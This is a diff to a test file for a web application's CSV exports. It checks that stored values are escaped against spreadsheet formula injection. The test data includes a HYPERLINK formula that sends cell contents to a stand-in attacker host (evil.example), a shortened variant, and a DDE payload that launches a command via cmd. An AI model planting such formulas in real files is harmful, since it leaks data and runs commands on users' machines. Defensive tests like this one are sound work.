@@ -16,9 +16,10 @@ from tests.web.conftest import login
 from tests.web.test_api import bearer
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+SHORT_LINK = '=HYPERLINK("//evil.example")'  # a reference holds at most 40 characters
 CALC = "+cmd|' /C calc'!A0"
 EXPORTS = {  # the route, and the cells (column: value) that the planted values must come out as
-    "/shipments.csv": {"reference": "'" + LINK},
+    "/shipments.csv": {"reference": "'" + SHORT_LINK},
     "/stock.csv": {"lot": "'" + CALC},
     "/stock/ledger.csv": {"note": "'" + LINK, "lot": "'" + CALC},
     "/recruitment/enrolments.csv": {"patient_code": "'-2+3"},
@@ -37,7 +38,7 @@ def plant(app, token_for):
     assert taken.status_code == 201, taken.get_data(as_text=True)
     runtime = app.extensions["logistics"]
     with unit_of_work(runtime.sessions, actor="test", reason="stored before exports were guarded") as s:
-        s.exec(select(Shipment).where(Shipment.reference == "HG-2026-0048")).one().reference = LINK
+        s.exec(select(Shipment).where(Shipment.reference == "HG-2026-0048")).one().reference = SHORT_LINK
         s.exec(select(Lot).where(Lot.lot_number == "RC-2501")).one().lot_number = CALC
         s.exec(select(Enrolment).where(Enrolment.patient_code == "TDT-001")).one().patient_code = "-2+3"
         run = s.exec(select(ForecastRun)).one()
